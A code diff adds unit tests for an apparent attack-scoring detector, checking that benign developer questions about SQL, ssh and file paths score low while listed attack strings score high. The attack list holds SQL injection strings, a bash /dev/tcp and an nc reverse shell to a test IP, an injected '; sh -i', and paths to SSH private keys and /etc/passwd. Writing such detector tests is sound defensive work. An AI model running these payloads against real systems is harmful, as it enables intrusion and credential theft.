@@ -130,3 +130,35 @@ describe('a file path typed as a value: own files versus targets', () => {
     expect(score(v)).toBeGreaterThanOrEqual(5);
   });
 });
+
+describe('SQL, paths and shell markers named in a question', () => {
+  it.each([
+    'SELECT * FROM orders WHERE total > 100 gives duplicate rows',
+    'delete from sessions where expires < now() never seems finished?',
+    'DROP TABLE IF EXISTS logs; fails with permission denied',
+    'ssh -i ~/keys/dev.pem user@host asks for a password',
+    'rsync -e ssh copies nothing',
+    'D:\\tools\\app\\setup.exe',
+    'C:\\Program Files\\Git\\bin\\git.exe is not recognized',
+    'my keys live in ~/.ssh/ but git ignores them',
+    '../ in an import path breaks the build',
+  ])('clean (below the default minScore 5: a mention scores a notice at most): %s', (v) => {
+    expect(score(v)).toBeLessThan(5);
+  });
+  it.each([
+    '1; drop table users',
+    "1' union select password from users where id = 1 --",
+    "x' and 1=1 or 'a'='a",
+    'select * from users where name = admin',
+    '; sh -i',
+    'x; bash -i >& /dev/tcp/192.0.2.1/4444 0>&1',
+    'nc -e /bin/sh 192.0.2.1 4444',
+    'c:\\windows\\win.ini',
+    'c:\\program files\\app\\app.exe',
+    '/home/ana/.ssh/id_rsa',
+    '../',
+    '../../etc/passwd',
+  ])('still an attack: %s', (v) => {
+    expect(score(v)).toBeGreaterThanOrEqual(5);
+  });
+});
